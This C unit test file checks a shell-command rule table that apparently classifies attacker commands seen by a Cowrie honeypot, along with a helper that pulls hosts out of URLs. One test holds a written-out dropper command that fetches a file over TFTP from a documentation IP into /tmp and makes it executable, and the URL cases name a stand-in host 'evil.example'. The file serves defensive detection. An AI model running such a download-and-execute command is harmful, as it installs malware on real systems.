/*  test_cmdrule.c - the shared shell-command rule table: every row by its example, the
    transfer hosts, URL hosts, and the Cowrie adapter's names for the same functions. */
#include "cmdrule.h"
#include "cowrie.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

static void
test_rows(void **state)
{
    (void)state;
    assert_true(cmdrule_count() > 40);
    for (size_t i = 0; i < cmdrule_count(); i++) {
        const cmdrule_t *r = cmdrule_at(i);
        char *host = NULL;
        ukc_phase_t got = cmdrule_phase(r->example, &host);
        if (got != r->phase) {
            fail_msg("row %zu ('%s'): example '%s' is %s, not %s", i, r->text, r->example,
                     ukc_phase_name(got), ukc_phase_name(r->phase));
        }
        /* Only a transfer row's example names a host. */
        assert_true((host != NULL) == (r->kind == CMDRULE_TRANSFER));
        free(host);
    }
    assert_null(cmdrule_at(cmdrule_count()));
}

static void
test_url_host(void **state)
{
    (void)state;
    const struct {
        const char *url;
        const char *host;
    } cases[] = {
        {"http://203.0.113.5/x", "203.0.113.5"},
        {"https://user:pw@evil.example:8443/a?b", "evil.example"},
        {"ftp://[2001:db8::7]:21/f", "2001:db8::7"},
        {"dl.example.org/p.sh", "dl.example.org"},
        {"http://[2001:db8::7", NULL},
        {"http:///x", NULL},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        bool too_long = true;
        char *h = cmdrule_url_host(cases[i].url, &too_long);
        if (cases[i].host ? !h || strcmp(h, cases[i].host) != 0 : h != NULL) {
            fail_msg("'%s': host '%s', wanted '%s'", cases[i].url, h ? h : "(none)",
                     cases[i].host ? cases[i].host : "(none)");
        }
        assert_false(too_long);
        free(h);
    }
    char *long_url = calloc(1, 2100);
    memcpy(long_url, "http://", 7);
    memset(long_url + 7, 'a', 2000);
    bool too_long = false;
    assert_null(cmdrule_url_host(long_url, &too_long));
    assert_true(too_long);
    free(long_url);
}

/*  The Cowrie adapter's functions are the same table. */
static void
test_cowrie_names(void **state)
{
    (void)state;
    assert_int_equal(cowrie_rule_count(), cmdrule_count());
    for (size_t i = 0; i < cmdrule_count(); i++) {
        assert_ptr_equal(cowrie_rule_at(i), cmdrule_at(i));
    }
    char *a = NULL, *b = NULL;
    const char *cmd = "cd /tmp; busybox tftp -g -r m 198.51.100.9; chmod +x m";
    assert_int_equal(cowrie_command_phase(cmd, &a), cmdrule_phase(cmd, &b));
    assert_string_equal(a, "198.51.100.9");
    assert_string_equal(a, b);
    free(a);
    free(b);
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_rows),
        cmocka_unit_test(test_url_host),
        cmocka_unit_test(test_cowrie_names),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
